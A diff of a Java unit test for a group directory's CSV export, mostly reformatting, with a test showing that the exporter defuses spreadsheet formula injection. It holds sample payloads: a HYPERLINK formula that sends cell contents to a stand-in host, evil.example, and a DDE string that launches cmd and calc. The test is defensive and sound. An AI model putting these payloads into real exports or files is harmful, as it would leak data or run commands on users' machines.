@@ -5,10 +5,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.io.IOException;
 import java.io.StringReader;
 import java.util.List;
+import net.jqwik.api.Arbitrary;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import net.jqwik.api.Provide;
-import net.jqwik.api.Arbitrary;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
@@ -20,8 +20,8 @@ import org.localgroups.directory.LinkKind;
 import org.localgroups.directory.Placement;
 
 class CsvExportTest {
-  private static final CSVFormat READ = CSVFormat.RFC4180.builder()
-      .setHeader().setSkipHeaderRecord(true).get();
+  private static final CSVFormat READ =
+      CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
 
   static List<CSVRecord> parse(String csv) throws IOException {
     return READ.parse(new StringReader(csv)).getRecords();
@@ -29,12 +29,15 @@ class CsvExportTest {
 
   @Test
   void writesAHeaderAndOneRowPerGroupWithCrlf() {
-    assertThat(Exports.render(DirectoryJsonTest.tiny(), ExportFormat.CSV)).isEqualTo("""
+    assertThat(Exports.render(DirectoryJsonTest.tiny(), ExportFormat.CSV))
+        .isEqualTo(
+            """
         slug,name,description,status,founded,meeting,regions,region_names,place,admin1,\
         country_code,precision,latitude,longitude,confidence,main_url,links,notes
         pykonik,PyKonik,,active,,,poland,Poland,Kraków,Lesser Poland,PL,city,50.06143,19.93658,\
         0.98,mailto:x@y?Subject=subscribe,mailing_list mailto:x@y?Subject=subscribe,
-        """.replace("\n", "\r\n"));
+        """
+                .replace("\n", "\r\n"));
   }
 
   @Test
@@ -42,7 +45,8 @@ class CsvExportTest {
     String csv = Exports.render(SampleDirectory.directory(), ExportFormat.CSV);
     List<CSVRecord> rows = parse(csv);
     assertThat(READ.parse(new StringReader(csv)).getHeaderNames()).isEqualTo(CsvExport.HEADER);
-    assertThat(rows).extracting(r -> r.get("slug"))
+    assertThat(rows)
+        .extracting(r -> r.get("slug"))
         .containsExactly("pykonik", "python-ireland", "austin-python", "lone-star-pythonistas");
 
     CSVRecord pykonik = rows.get(0);
@@ -50,10 +54,13 @@ class CsvExportTest {
     assertThat(pykonik.get("founded")).isEqualTo("February 2012");
     assertThat(pykonik.get("meeting")).isEqualTo("meets the 2nd Thursday of the month");
     assertThat(pykonik.get("main_url")).isEqualTo("http://www.pykonik.org/");
-    assertThat(pykonik.get("links")).isEqualTo("website http://www.pykonik.org/"
-        + " | meetup https://www.meetup.com/pl-PL/PyKonik/"
-        + " | facebook https://www.facebook.com/pykonik"
-        + " | mailing_list " + SampleDirectory.MAILTO);
+    assertThat(pykonik.get("links"))
+        .isEqualTo(
+            "website http://www.pykonik.org/"
+                + " | meetup https://www.meetup.com/pl-PL/PyKonik/"
+                + " | facebook https://www.facebook.com/pykonik"
+                + " | mailing_list "
+                + SampleDirectory.MAILTO);
     assertThat(pykonik.get("notes")).isEqualTo("Talks in Polish and English");
     assertThat(pykonik.get("admin1")).isEqualTo("Lesser Poland");
 
@@ -61,8 +68,12 @@ class CsvExportTest {
     assertThat(ireland.get("regions")).isEqualTo("europe-ireland; europe-united-kingdom");
     assertThat(ireland.get("region_names")).isEqualTo("Ireland; United Kingdom");
     assertThat(ireland.get("precision")).isEqualTo("country");
-    assertThat(ireland.get("links")).contains(SampleDirectory.LINKEDIN, SampleDirectory.PHOTOS,
-        "irc irc://irc.libera.chat/#python-ie", "email mailto:info@python.ie");
+    assertThat(ireland.get("links"))
+        .contains(
+            SampleDirectory.LINKEDIN,
+            SampleDirectory.PHOTOS,
+            "irc irc://irc.libera.chat/#python-ie",
+            "email mailto:info@python.ie");
     assertThat(ireland.get("main_url")).isEqualTo("https://python.ie/");
 
     CSVRecord austin = rows.get(2);
@@ -71,9 +82,11 @@ class CsvExportTest {
     assertThat(austin.get("status")).isEqualTo("starting");
     assertThat(austin.get("description")).isEqualTo("'= just starting, say hello");
     assertThat(austin.get("main_url")).isEmpty();
-    assertThat(austin.get("links")).isEqualTo("wiki_page AustinPUG"
-        + " | jobs https://austin.example.org/jobs?q=python&page=2"
-        + " | other https://example.org/a%20b/c");
+    assertThat(austin.get("links"))
+        .isEqualTo(
+            "wiki_page AustinPUG"
+                + " | jobs https://austin.example.org/jobs?q=python&page=2"
+                + " | other https://example.org/a%20b/c");
 
     CSVRecord loneStar = rows.get(3);
     assertThat(loneStar.get("precision")).isEqualTo("unplaced");
@@ -84,14 +97,32 @@ class CsvExportTest {
 
   @Test
   void defusesFormulasInTextCellsButNotInNumbers() throws IOException {
-    Group evil = new Group("-evil", "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")",
-        "+1 555 0100", List.of(new Link(LinkKind.WEBSITE, "@SUM(1+1)*cmd|' /C calc'!A0", "", "")),
-        GroupStatus.ACTIVE, "-2012", "\tmonthly", List.of("\r=1+1"),
-        new Placement(Placement.Precision.CITY, "=place", "=C", "@admin", -33.86882, -151.20929,
-            0, 0.5, ""),
-        List.of());
-    CSVRecord row = parse(Exports.render(
-        new Directory("", List.of(), List.of(), List.of(evil)), ExportFormat.CSV)).getFirst();
+    Group evil =
+        new Group(
+            "-evil",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")",
+            "+1 555 0100",
+            List.of(new Link(LinkKind.WEBSITE, "@SUM(1+1)*cmd|' /C calc'!A0", "", "")),
+            GroupStatus.ACTIVE,
+            "-2012",
+            "\tmonthly",
+            List.of("\r=1+1"),
+            new Placement(
+                Placement.Precision.CITY,
+                "=place",
+                "=C",
+                "@admin",
+                -33.86882,
+                -151.20929,
+                0,
+                0.5,
+                ""),
+            List.of());
+    CSVRecord row =
+        parse(
+                Exports.render(
+                    new Directory("", List.of(), List.of(), List.of(evil)), ExportFormat.CSV))
+            .getFirst();
     assertThat(row.get("slug")).isEqualTo("'-evil");
     assertThat(row.get("name")).isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")");
     assertThat(row.get("description")).isEqualTo("'+1 555 0100");
@@ -107,8 +138,8 @@ class CsvExportTest {
   }
 
   @Property(tries = 200)
-  void noTextCellStartsAFormulaAndEveryCellReadsBack(
-      @ForAll("directories") Directory d) throws IOException {
+  void noTextCellStartsAFormulaAndEveryCellReadsBack(@ForAll("directories") Directory d)
+      throws IOException {
     List<CSVRecord> rows = parse(Exports.render(d, ExportFormat.CSV));
     assertThat(rows).hasSize(d.groups().size());
     for (int i = 0; i < rows.size(); i++) {
@@ -117,10 +148,25 @@ class CsvExportTest {
       assertThat(row.size()).isEqualTo(CsvExport.HEADER.size());
       assertThat(row.get("name")).isEqualTo(CsvExport.text(g.name()));
       assertThat(row.get("description")).isEqualTo(CsvExport.text(g.description()));
-      for (String column : List.of("slug", "name", "description", "founded", "meeting", "place",
-          "admin1", "country_code", "main_url", "links", "notes")) {
-        assertThat(row.get(column)).doesNotStartWith("=").doesNotStartWith("+")
-            .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t")
+      for (String column :
+          List.of(
+              "slug",
+              "name",
+              "description",
+              "founded",
+              "meeting",
+              "place",
+              "admin1",
+              "country_code",
+              "main_url",
+              "links",
+              "notes")) {
+        assertThat(row.get(column))
+            .doesNotStartWith("=")
+            .doesNotStartWith("+")
+            .doesNotStartWith("-")
+            .doesNotStartWith("@")
+            .doesNotStartWith("\t")
             .doesNotStartWith("\r");
       }
       for (String number : List.of("latitude", "longitude", "confidence")) {
